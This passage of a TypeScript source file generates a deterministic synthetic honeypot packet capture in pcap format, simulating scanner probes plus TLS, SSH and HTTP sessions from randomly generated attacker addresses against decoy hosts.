  private readonly heap = new PktHeap();
  private readonly free: Pkt[] = [];
  private ord = 0;
  private readonly tls: TlsBuilder;
  private readonly ssh: SshBuilder;
  private nextEvent: number;
  committed = 0;
  private scanCommitted = 0;
  private lastT: number;
  readonly s: CaptureSummary = {
    packets: 0,
    bytes: 0,
    scanPackets: 0,
    scanProbes: 0,
    sessionPackets: 0,
    tls12Sessions: 0,
    tls13Sessions: 0,
    tls12ThreeCertChains: 0,
    splitClientHellos: 0,
    sshSessions: 0,
    httpSessions: 0,
    httpRequests: 0,
    attackerSources: 0,
    durationSeconds: 0,
  };

  constructor(
    seed: number,
    private readonly target: number,
  ) {
    this.rng = new Rng(seed);
    const r = this.rng;
    // 256 KiB of PRNG bytes from which keys, randoms and ciphertext are copied (fast, still seed-determined).
    this.pool = Buffer.alloc(256 << 10);
    for (let i = 0; i < this.pool.length; i += 4) this.pool.writeUInt32LE(r.u32(), i);
    const chains = loadChains();
    for (let i = 0; i < 20; i++) {
      const open = new Set<number>([22, 80, 443]);
      for (const p of [21, 23, 25, 445, 3389, 8080, 3306, 6379, 2375, 5900]) if (r.chance(0.3)) open.add(p);
      this.deckies.push({
        ip: ((10 << 24) | (13 << 16) | (10 + i)) >>> 0,
        mac: Buffer.from([0x02, 0x42, 0x0a, 0x0d, 0x00, 10 + i]),
        tls13: i % 4 >= 2,
        chain: chains[i % chains.length],
        ssh: SSH_SERVERS[i % SSH_SERVERS.length],
        httpServer: [
          "nginx/1.18.0 (Ubuntu)",
          "Apache/2.4.41 (Ubuntu)",
          "Microsoft-IIS/10.0",
          "lighttpd/1.4.59",
        ][i % 4],
        open,
      });
    }
    for (let i = 0; i < 400; i++) this.hot.push(this.attacker(this.publicIp()));
    this.tls = new TlsBuilder(this);
    this.ssh = new SshBuilder(this);
    this.nextEvent = this.t0;
    this.lastT = this.t0;
  }

  /** A packet object from the free list (bounded by the packets in flight). */
  newPkt(): Pkt {
    return this.free.pop() ?? new Pkt();
  }

  private release(p: Pkt): void {
    p.data = null;
    this.free.push(p);
  }

  randBytes(w: Bytes, n: number): void {
    const off = this.rng.int(this.pool.length - n);
    w.bytes(this.pool, off, off + n);
  }

  hex(n: number): string {
    const off = this.rng.int(this.pool.length - n);
    return this.pool.toString("hex", off, off + ((n + 1) >> 1)).slice(0, n);
  }

  /** A random unicast public IPv4 address. */
  private publicIp(): number {
    for (;;) {
      const ip = this.rng.u32();
      const a = ip >>> 24;
      const b = (ip >>> 16) & 0xff;
      if (a === 0 || a === 10 || a === 127 || a >= 224) continue;
      if (a === 100 && b >= 64 && b < 128) continue;
      if ((a === 169 && b === 254) || (a === 172 && b >= 16 && b < 32) || (a === 192 && b === 168)) continue;
      return ip;
    }
  }

  private attacker(ip: number): Attacker {
    const h = mix32(ip);
    const os = h % 100 < 60 ? STACKS.linux : h % 100 < 85 ? STACKS.windows : STACKS.macos;
    const t = (h >>> 8) % 100;
    const scanTool =
      t < 40
        ? STACKS.nmap
        : t < 60
          ? STACKS.masscan
          : t < 75
            ? STACKS.zmap
            : t < 90
              ? STACKS.linux
              : STACKS.windows;
    return { ip, h, os, scanTool, hops: 4 + ((h >>> 16) % 20), rtt: 8000 + ((h >>> 4) % 240) * 1000 };
  }

  private pickAttacker(hotShare: number): Attacker {
    if (this.rng.chance(hotShare)) {
      const a = this.hot[Math.floor(this.rng.float() ** 2 * this.hot.length)];
      this.hotUsed.add(a.ip);
      return a;
    }
    this.freshSources++;
    return this.attacker(this.publicIp());
  }

  private enqueue(pk: Pkt[], scan: boolean): void {
    for (const p of pk) {
      p.ord = this.ord++;
      this.heap.push(p);
    }
    this.committed += pk.length;
    if (scan) this.scanCommitted += pk.length;
    else this.s.sessionPackets += pk.length;
    // The next event starts after a gap proportional to the traffic just scheduled.
    this.nextEvent += 1 + Math.floor(this.rng.exp(pk.length * US_PER_PACKET));
  }

  /** Schedules one event (a scan burst or a session) of at most `room` packets. */
  private event(room: number): void {
    const r = this.rng;
    const t = this.nextEvent;
    if (room < 40 || this.scanCommitted < SCAN_SHARE * this.committed) {
      this.enqueue(this.scan(t, room), true);
      return;
    }
    const kind = r.weighted([
      { w: 40, v: 0 },
      { w: 35, v: 1 },
      { w: 25, v: 2 },
    ]);
    const a = this.pickAttacker(0.7);
    const d = r.pick(this.deckies);
    const conv = new Conv(
      this,
      a,
      d,
      this.ephemeralPort(a.os),
      kind === 0 ? 443 : kind === 1 ? (r.chance(0.7) ? 80 : 8080) : 22,
      t,
    );
    const before = { ...this.s };
    if (kind === 0) this.tlsSession(conv);
    else if (kind === 1) this.httpSession(conv);
    else this.sshSession(conv);
    if (conv.pk.length > room) {
      // Does not fit the packet budget: forget it (and its counts) and scan instead.
      Object.assign(this.s, before);
      for (const p of conv.pk) this.release(p);
      this.enqueue(this.scan(t, room), true);
      return;
    }
    this.enqueue(conv.pk, false);
  }

  private ephemeralPort(os: StackProfile): number {
    return os === STACKS.windows ? this.rng.range(49152, 65535) : this.rng.range(32768, 60999);
  }

  /** A burst of SYN probes from one scanner: vertical (one decky, many ports) or horizontal (one port). */
  private scan(t0: number, room: number): Pkt[] {
    const r = this.rng;
    const a = this.pickAttacker(0.5);
    const tool = a.scanTool;
    const raw = tool === STACKS.nmap || tool === STACKS.masscan || tool === STACKS.zmap;
    const ttl = (tool === STACKS.nmap ? 37 + r.int(23) : tool.ttl) - a.hops;
    const fixedSport = tool === STACKS.nmap || tool === STACKS.masscan ? r.range(32768, 65000) : -1;
    const horizontal = r.chance(0.35);
    const probes = horizontal ? 2 + r.int(18) : r.chance(0.3) ? 1 : 2 + Math.floor(r.exp(12));
    const port = r.pick(HORIZONTAL_PORTS);
    const decky = r.pick(this.deckies);
    const gap = tool === STACKS.masscan || tool === STACKS.zmap ? 40 : tool === STACKS.nmap ? 400 : 1500;
    const pk: Pkt[] = [];
    let t = t0;
    let ipid = r.int(65536);
    const sack = synAckOpts(tool.sack, tool.tsOff >= 0, tool.wscale);
    const usedPorts = new Set<number>();
    for (let i = 0; i < probes && pk.length < room; i++) {
      const d = horizontal ? this.deckies[(this.deckies.indexOf(decky) + i) % this.deckies.length] : decky;
      let dport = port;
      if (!horizontal) {
        // Each port once per burst, as scanners do (a repeat would reuse the 4-tuple).
        for (let k = 0; k < 8; k++) {
          dport = r.chance(0.8) ? r.pick(NMAP_PORTS) : r.range(1, 65535);
          if (!usedPorts.has(dport)) break;
        }
        usedPorts.add(dport);
      }
      const sport =
        fixedSport >= 0
          ? fixedSport
          : tool === STACKS.zmap
            ? r.range(32768, 61000)
            : this.ephemeralPort(tool);
      const seq = r.u32();
      const synT = t;
      const syn = this.newPkt()
        .ip(
          synT,
          a.ip,
          d.ip,
          this.routerMac,
          d.mac,
          ttl,
          tool.df,
          tool.ipid === "random" ? r.int(65536) : tool.ipid === "fixed" ? 54321 : ipid++ & 0xffff,
        )
        .tcp(sport, dport, seq, 0, SYN, tool === STACKS.nmap ? r.pick(NMAP_WINDOWS) : tool.synWin)
        .options(tool.synOpts.length ? tool.synOpts : null, tool.tsOff, r.u32(), 0)
        .payload(null, 0, 0);
      pk.push(syn);
      this.s.scanProbes++;
      const left = room - pk.length;
      const isOpen = d.open.has(dport);
      const lost = r.chance(0.05);
      const respT = synT + 20 + r.int(80);
      if (lost || left < 1) {
        // no answer captured
      } else if (!isOpen || left < 2) {
        pk.push(
          this.newPkt()
            .ip(respT, d.ip, a.ip, d.mac, this.routerMac, 64, true, 0)
            .tcp(dport, sport, 0, (seq + 1) >>> 0, RST | ACK, 0)
            .options(null, -1, 0, 0)
            .payload(null, 0, 0),
        );
      } else {
        const iss = r.u32();
        pk.push(
          this.newPkt()
            .ip(respT, d.ip, a.ip, d.mac, this.routerMac, 64, true, 0)
            .tcp(dport, sport, iss, (seq + 1) >>> 0, SYN | ACK, sack.tsOff >= 0 ? 65160 : 64240)
            .options(sack.opts, sack.tsOff, r.u32(), syn.tsval)
            .payload(null, 0, 0),
        );
        const back = respT + a.rtt + r.int(500);
        if (raw || left < 3) {
          // Half-open scan: the scanner's kernel (or the scanner) resets.
          pk.push(
            this.newPkt()
              .ip(
                back,
                a.ip,
                d.ip,
                this.routerMac,
                d.mac,
                ttl,
                tool.df,
                tool.ipid === "fixed" ? 54321 : r.int(65536),
              )
              .tcp(sport, dport, (seq + 1) >>> 0, 0, RST, 0)
              .options(null, -1, 0, 0)
              .payload(null, 0, 0),
          );
        } else {
          // Connect scan: complete the handshake, then abort.
          pk.push(
            this.newPkt()
              .ip(back, a.ip, d.ip, this.routerMac, d.mac, ttl, tool.df, ipid++ & 0xffff)
              .tcp(sport, dport, (seq + 1) >>> 0, (iss + 1) >>> 0, ACK, tool.dataWin)
              .options(null, -1, 0, 0)
              .payload(null, 0, 0),
          );
          pk.push(
            this.newPkt()
              .ip(back + 30 + r.int(200), a.ip, d.ip, this.routerMac, d.mac, ttl, tool.df, ipid++ & 0xffff)
              .tcp(sport, dport, (seq + 1) >>> 0, (iss + 1) >>> 0, RST | ACK, 0)
              .options(null, -1, 0, 0)
              .payload(null, 0, 0),
          );
        }
      }
      t += 1 + Math.floor(r.exp(gap));
    }
    return pk;
  }

  private tlsSession(c: Conv): void {
    const r = this.rng;
    const cl = r.weighted(TLS_CLIENTS.map((x) => ({ w: x.w, v: x })));
    const sni = r.chance(cl.sni) ? r.pick(SNI_NAMES) : undefined;
    const alpn = r.pick(cl.alpn);
    const hello = this.tls.clientHello(cl, sni, alpn);
    c.handshake();
    const before = c.pk.length;
    c.send(0, hello);
    if (c.pk.length - before > 1) this.s.splitClientHellos++;
    const chain = c.d.chain;
    if (cl.tls13 && c.d.tls13) {
      this.s.tls13Sessions++;
      // Legacy session id: echo the client's (bytes 44..75 of the record when present).
      const sid = cl.sessionId ? hello.subarray(44, 76) : null;
      const cipher = cl.ciphers.find((x) => x === 0x1301 || x === 0x1302 || x === 0x1303) ?? 0x1301;
      c.send(1, this.tls.serverFlight13(sid, cipher, chain), true);
      if (r.chance(cl.abort)) {
        c.close(0);
        return;
      }
      c.send(0, this.tls.clientFinish13(cipher));
      c.send(0, this.tls.appData(60 + r.int(500)));
      c.send(1, this.tls.appData(2 * (200 + r.int(60)), 2));
      c.send(1, this.tls.appData(100 + r.int(4000)), true);
    } else {
      this.s.tls12Sessions++;
      if (chain.certs.length === 3) this.s.tls12ThreeCertChains++;
      const { cipher, ecdhe } = this.tls.pick12(cl, chain.ec);
      c.send(1, this.tls.serverFlight12(cl, chain, alpn, cipher, ecdhe), true);
      if (r.chance(cl.abort)) {
        c.close(0);
        return;
      }
      c.send(0, this.tls.clientFinish12(ecdhe));
      c.send(1, this.tls.serverFinish12(cl.exts.includes(35)));
      c.send(0, this.tls.appData(60 + r.int(500)));
      c.send(1, this.tls.appData(100 + r.int(4000)), true);
    }
    c.wait(r.exp(20000));
    if (r.chance(0.7)) c.send(0, this.tls.closeNotify());
    c.close(0);
  }

  private sshSession(c: Conv): void {
    const r = this.rng;
    const cl = r.weighted(SSH_CLIENTS.map((x) => ({ w: x.w, v: x })));
    const srv = c.d.ssh;
    this.s.sshSessions++;
    c.handshake();
    c.send(0, Buffer.from(`${cl.banner}\r\n`, "latin1"));
    c.send(1, Buffer.from(`${srv.banner}\r\n`, "latin1"));
    c.send(1, this.ssh.kexinit(srv));
    c.send(0, this.ssh.kexinit(cl));
    const kex = negotiate(cl.kex, srv.kex);
    const hostkey = negotiate(cl.hostkey, srv.hostkey);
    const q = ecdhLen(kex);
    const enc = negotiate(cl.enc, srv.enc);
    const mac = negotiate(cl.mac, srv.mac);
    const k = sshCrypto(enc, mac);
    const e = (n: number) => this.ssh.encrypted(k, n);
    c.send(0, this.ssh.ecdhInit(q));
    c.send(1, this.ssh.ecdhReply(q, hostkey));
    // NEWKEYS, then SERVICE_REQUEST "ssh-userauth" / SERVICE_ACCEPT (and EXT_INFO).
    c.send(0, Buffer.concat([this.ssh.newkeys(), e(17)]));
    c.send(1, e(r.pick([17, 60])));
    const attempts = 1 + r.int(6);
    for (let i = 0; i < attempts; i++) {
      c.wait(r.exp(150000));
      c.send(0, e(r.range(40, 120)));
      c.send(1, e(r.pick([30, 42])));
    }
    if (r.chance(0.15)) {
      // Logged in: open a session channel and run a command.
      c.send(0, e(24));
      c.send(1, e(16));
      c.send(0, e(r.range(40, 200)));
      c.send(1, e(40 + r.int(800)), true);
    }
    c.close(attempts >= 6 ? 1 : 0);
  }

  private httpSession(c: Conv): void {
    const r = this.rng;
    const client = r.weighted(HTTP_CLIENTS);
    this.s.httpSessions++;
    c.handshake();
    const requests = r.chance(0.2) ? 2 : 1;
    for (let i = 0; i < requests; i++) {
      const host = r.chance(0.6)
        ? `${c.d.ip >>> 24}.${(c.d.ip >>> 16) & 0xff}.${(c.d.ip >>> 8) & 0xff}.${c.d.ip & 0xff}${c.sport === 80 ? "" : `:${c.sport}`}`
        : r.pick(SNI_NAMES);
      c.send(0, Buffer.from(client(this, host, r.pick(HTTP_PATHS)), "latin1"));
      this.s.httpRequests++;
      if (r.chance(0.4)) c.pkt(1, ACK);
      const status = r.pick([
        "200 OK",
        "404 Not Found",
        "404 Not Found",
        "403 Forbidden",
        "301 Moved Permanently",
      ]);
      const body = HTML_FILLER.repeat(1 + r.int(status.startsWith("200") ? 40 : 3));
      const date = new Date(Math.floor(c.t / 1000)).toUTCString();
      const resp = `HTTP/1.1 ${status}\r\nServer: ${c.d.httpServer}\r\nDate: ${date}\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Length: ${body.length}\r\nConnection: ${i + 1 < requests ? "keep-alive" : "close"}\r\n\r\n${body}`;
      c.send(1, Buffer.from(resp, "latin1"), true);
      c.wait(r.exp(5000));
    }
    c.close(r.chance(0.6) ? 1 : 0);
  }

  /** Writes the whole capture, streaming through one chunk buffer. */
  async run(path: string): Promise<CaptureSummary> {
    const fh = await open(path, "w");
    try {
      const chunk = Buffer.alloc(CHUNK);
      // Global header: magic (µs), version 2.4, thiszone 0, sigfigs 0, snaplen 262144, LINKTYPE_ETHERNET.
      chunk.writeUInt32LE(0xa1b2c3d4, 0);
      chunk.writeUInt16LE(2, 4);
      chunk.writeUInt16LE(4, 6);
      chunk.writeInt32LE(0, 8);
      chunk.writeUInt32LE(0, 12);
      chunk.writeUInt32LE(262144, 16);
      chunk.writeUInt32LE(1, 20);
      let off = 24;
      let bytes = 0;
      let written = 0;
      const heap = this.heap;
      while (written < this.target) {
        if (this.committed < this.target && (heap.size === 0 || this.nextEvent <= heap.peek().t)) {
          this.event(this.target - this.committed);
          continue;
        }
        const p = heap.pop();
        // Monotonic capture clock even when two flows' scripted times cross.
        if (p.t < this.lastT) p.t = this.lastT;
        this.lastT = p.t;
        off = writePacket(chunk, off, p);
        this.release(p);
        written++;
        if (off > CHUNK - MAX_FRAME) {
          await fh.write(chunk, 0, off);
          bytes += off;
          off = 0;
        }
      }
      if (off > 0) {
        await fh.write(chunk, 0, off);
        bytes += off;
      }
      this.s.packets = written;
      this.s.bytes = bytes;
      this.s.scanPackets = this.scanCommitted;
      this.s.attackerSources = this.hotUsed.size + this.freshSources;
      this.s.durationSeconds = Math.round((this.lastT - this.t0) / 1000) / 1000;
      return this.s;
    } finally {
      await fh.close();
    }
  }
}

/** Ones' complement sum of big-endian 16-bit words in b[s, e). */
function sum16(b: Buffer, s: number, e: number, acc: number): number {
  let i = s;
  for (; i + 1 < e; i += 2) acc += (b[i] << 8) | b[i + 1];
  if (i < e) acc += b[i] << 8;
  return acc;
}

function fold(acc: number): number {
  while (acc > 0xffff) acc = (acc & 0xffff) + (acc >>> 16);
  return ~acc & 0xffff;
}

function put16(b: Buffer, o: number, v: number): void {
  b[o] = (v >>> 8) & 0xff;
  b[o + 1] = v & 0xff;
}

function put32(b: Buffer, o: number, v: number): void {
  b[o] = (v >>> 24) & 0xff;
  b[o + 1] = (v >>> 16) & 0xff;
  b[o + 2] = (v >>> 8) & 0xff;
  b[o + 3] = v & 0xff;
}

/** One pcap record: Ethernet / IPv4 / TCP with correct checksums. Returns the new offset. */
function writePacket(b: Buffer, o: number, p: Pkt): number {
  const optLen = p.opts === null ? 0 : p.opts.length;
  const tcpLen = 20 + optLen;
  const ipLen = 20 + tcpLen + p.dLen;
  const frame = 14 + ipLen;
  const sec = Math.floor(p.t / 1e6);
  b.writeUInt32LE(sec, o);
  b.writeUInt32LE(p.t - sec * 1e6, o + 4);
  b.writeUInt32LE(frame, o + 8);
  b.writeUInt32LE(frame, o + 12);
  o += 16;
  const dm = p.dmac;
  const sm = p.smac;
  for (let i = 0; i < 6; i++) {
    b[o + i] = dm[i];
    b[o + 6 + i] = sm[i];
  }
  b[o + 12] = 0x08;
  b[o + 13] = 0x00;
  const ip = o + 14;
  b[ip] = 0x45;
  b[ip + 1] = 0;
  put16(b, ip + 2, ipLen);
  put16(b, ip + 4, p.ipid);
  b[ip + 6] = p.df ? 0x40 : 0;
  b[ip + 7] = 0;
  b[ip + 8] = p.ttl;
  b[ip + 9] = 6;
  b[ip + 10] = 0;
  b[ip + 11] = 0;
  put32(b, ip + 12, p.src);
  put32(b, ip + 16, p.dst);
  put16(b, ip + 10, fold(sum16(b, ip, ip + 20, 0)));
  const tcp = ip + 20;
  put16(b, tcp, p.sport);
  put16(b, tcp + 2, p.dport);
  put32(b, tcp + 4, p.seq);
  put32(b, tcp + 8, p.ack);
  b[tcp + 12] = (tcpLen / 4) << 4;
  b[tcp + 13] = p.flags;
  put16(b, tcp + 14, p.win);
  b[tcp + 16] = 0;
  b[tcp + 17] = 0;
  b[tcp + 18] = 0;
  b[tcp + 19] = 0;
  if (p.opts !== null) {
    const op = p.opts;
    for (let i = 0; i < optLen; i++) b[tcp + 20 + i] = op[i];
    if (p.tsOff >= 0) {
      put32(b, tcp + 20 + p.tsOff, p.tsval);
      put32(b, tcp + 24 + p.tsOff, p.tsecr);
    }
  }
  if (p.data !== null) p.data.copy(b, tcp + tcpLen, p.dOff, p.dOff + p.dLen);
  const end = tcp + tcpLen + p.dLen;
  let acc = (p.src >>> 16) + (p.src & 0xffff) + (p.dst >>> 16) + (p.dst & 0xffff) + 6 + tcpLen + p.dLen;
  acc = sum16(b, tcp, end, acc);
  put16(b, tcp + 16, fold(acc));
  return end;
}

/** Writes a synthetic honeypot capture of exactly `packets` packets to `path`; same seed → same bytes. */
export async function generateCapture(opts: GenerateOptions): Promise<CaptureSummary> {
  if (!Number.isInteger(opts.packets) || opts.packets < 1)
    throw new Error("packets must be a positive integer");
  return new CaptureGenerator(opts.seed >>> 0, opts.packets).run(opts.path);
}

// ---------------------------------------------------------------------------------------
// CLI

function parseArgs(argv: string[]): GenerateOptions {
  let packets = 1_200_000;
  let seed = 1;
  let path = "";
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const v = argv[i + 1];
    if (a === "--packets" && v !== undefined) {
      packets = Number(v.replace(/_/g, ""));
      i++;
    } else if (a === "--seed" && v !== undefined) {
      seed = Number(v);
      i++;
    } else if ((a === "--out" || a === "-o") && v !== undefined) {
      path = v;
      i++;
    } else throw new Error(`unknown argument ${a}`);
  }
  if (!path) throw new Error("usage: generate-capture --packets N --seed S --out FILE");
  return { packets, seed, path };
}

const isMain = process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url);
if (isMain) {
  try {
    const opts = parseArgs(process.argv.slice(2));
    const started = process.hrtime.bigint();
    const s = await generateCapture(opts);
    const sec = Number(process.hrtime.bigint() - started) / 1e9;
    process.stderr.write(
      `wrote ${opts.path}: ${s.packets} packets, ${s.bytes} bytes in ${sec.toFixed(2)} s (${Math.round(s.packets / sec)} packets/s)\n${JSON.stringify(s, null, 2)}\n`,
    );
  } catch (err) {
    process.stderr.write(`generate-capture: ${err instanceof Error ? err.message : String(err)}\n`);
    process.exit(1);
  }
}
